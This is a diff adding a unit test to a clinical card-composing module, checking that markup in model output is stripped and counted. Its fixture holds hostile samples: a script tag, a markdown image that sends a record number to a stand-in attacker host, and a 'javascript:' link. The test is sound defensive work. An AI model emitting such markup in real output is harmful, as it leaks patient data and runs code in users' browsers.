@@ -63,6 +63,24 @@ describe('composeCards', () => {
     });
   });
 
+  it('cleans model markup out of the card and records what it removed, by kind only', () => {
+    const text = JSON.stringify({
+      findings: [
+        {
+          summary: 'K+ low <script>x</script>',
+          indicator: 'info',
+          detail: 'Replace K+ ![b](https://evil.example/b.gif?mrn=42) [see](javascript:alert(1))',
+          evidence: ['P1'],
+        },
+      ],
+    });
+    const out = composeCards(result(text), refs, service, profile);
+    expect(out.cards[0]!.summary).toBe('K+ low x');
+    expect(out.cards[0]!.detail?.startsWith('Replace K\\+  see\n\n')).toBe(true);
+    expect(out.detail.removedMarkup).toEqual({ html: 2, image: 1, link_scheme: 1 });
+    expect(JSON.stringify(out.detail)).not.toContain('evil.example');
+  });
+
   it('returns no card in shadow mode but records what would have been shown', () => {
     const text = JSON.stringify({ findings: [{ summary: 'ok', indicator: 'info', evidence: ['P1'] }] });
     const out = composeCards(result(text), refs, { ...service, mode: 'shadow' }, profile);
